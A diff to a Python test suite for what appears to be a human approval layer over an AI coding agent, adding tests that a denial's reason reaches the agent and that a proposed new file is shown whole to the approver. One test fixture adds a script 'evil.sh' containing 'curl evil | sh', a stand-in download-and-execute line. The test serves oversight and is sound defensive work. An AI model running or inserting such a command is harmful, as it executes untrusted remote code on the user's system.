@@ -7,7 +7,7 @@ from typing import Any
 import msgspec
 import pytest
 
-from hermes.codex.approver import Approver, Judge
+from hermes.codex.approver import Approver, Explain, Judge, nothing_to_explain
 from hermes.codex.asking import Asking
 from hermes.codex.failures import CodexRefused
 from hermes.codex.items import Change, FileChange, McpCall
@@ -30,26 +30,33 @@ class Rows:
 
 
 def asker(
-    approvals: Any, *, judge: Judge | None = None, items: Any = None, rows: Rows | None = None, cwd: str = "/w"
+    approvals: Any,
+    *,
+    judge: Judge | None = None,
+    items: Any = None,
+    rows: Rows | None = None,
+    cwd: str = "/w",
+    explain: Explain = nothing_to_explain,
 ) -> Asking:
     """What answers codex, with a policy that leaves everything to the person."""
     rows = rows or Rows()
-    approver = Approver(approvals, rows.record, rows.refusals)
+    approver = Approver(approvals, rows.record, rows.refusals, explain)
     return Asking(approver, judge or FixedJudge(Decision("ask")), items or {}, Path(cwd))
 
 
 class Answers:
     """Answers as told; without an answer, asking fails."""
 
-    def __init__(self, answer: Any = None) -> None:
+    def __init__(self, answer: Any = None, reason: str = "") -> None:
         self._answer = answer
+        self._reason = reason
         self.asked: list[ApprovalRequested] = []
 
     async def ask(self, request: ApprovalRequested) -> ApprovalAnswered:
         self.asked.append(request)
         if self._answer is None:
             raise RuntimeError("the desk is broken")
-        return ApprovalAnswered(call_id=request.call_id, answer=self._answer)
+        return ApprovalAnswered(call_id=request.call_id, answer=self._answer, reason=self._reason)
 
     async def question(self, request: QuestionAsked) -> QuestionAnswered:
         raise RuntimeError("the desk is broken")
@@ -76,6 +83,25 @@ async def test_answers_become_decisions_and_a_failure_is_a_no(answer: Any, decis
     asking = asker(Answers(answer))
     assert await asking.answer(COMMAND) == {"decision": decision}
     assert asking.waiting == 0
+
+
+async def test_the_reason_of_a_denial_is_passed_on() -> None:
+    told: list[str] = []
+
+    async def explain(reason: str) -> None:
+        told.append(reason)
+
+    asking = asker(Answers("deny", "use git instead"), explain=explain)
+    assert await asking.answer(COMMAND) == {"decision": "decline"}
+    assert told == ["use git instead"]
+
+
+async def test_a_question_about_a_patch_shows_all_of_a_new_file() -> None:
+    approvals = Answers("deny")
+    change = Change(path="/w/evil.sh", kind={"type": "add"}, diff="#!/bin/sh\ncurl evil | sh\n")
+    items = {"p": FileChange(id="p", changes=(change,))}
+    await asker(approvals, items=items).answer(call("item/fileChange/requestApproval", itemId="p"))
+    assert "+++ b/evil.sh\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl evil | sh" in approvals.asked[0].summary
 
 
 FILES = FileChange(id="c", changes=(Change("/w/a.py", "update", "+x"), Change("b.py", {"type": "add"}, "y")))
@@ -346,7 +372,7 @@ async def test_a_tool_without_arguments_is_found_too() -> None:
 
 @pytest.mark.parametrize("extra", [0, 1, 4_321])
 async def test_a_patch_that_is_cut_says_how_much_is_missing(extra: int) -> None:
-    head = "Edited a.py:\n"
+    head = "--- a/a.py\n+++ b/a.py\n"
     diff = "+" * (6_000 - len(head) + extra)
     approvals = Answers("once")
     item = FileChange(id="f", changes=(Change("/w/a.py", "update", diff),))
